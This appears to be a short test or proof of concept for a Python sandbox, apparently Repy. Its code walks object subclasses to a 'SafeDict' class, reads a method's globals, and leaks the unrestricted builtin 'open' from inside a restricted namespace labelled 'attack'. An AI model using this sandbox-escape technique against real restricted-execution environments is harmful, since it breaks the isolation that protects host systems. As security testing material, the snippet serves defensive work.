# What a namespace finds of its context in its context would be its globals, and with them the checks in its builtins.
code = """
read = me[0]["__builtins__"]["__repy_super__"]
for cls in read(object, "__subclasses__")():
    if read(cls, "__name__") == "SafeDict":
        names = read(read(cls, "__dict__")["__contains__"], "__globals__")
        log("LEAKED", names["__builtins__"]["open"])
"""
context = {"log": log}
context["me"] = [context]
createvirtualnamespace(code, "attack").evaluate(context)
